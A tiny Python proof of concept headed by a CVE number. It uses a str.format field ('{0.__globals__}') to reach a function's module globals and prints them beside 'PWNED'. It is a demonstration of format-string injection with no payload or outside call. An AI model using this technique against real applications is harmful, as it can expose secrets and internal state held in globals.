# CVE-2026-77401
class S(str):
    pass
def f():
    pass
print("PWNED", S("{0.__globals__}").format(f))
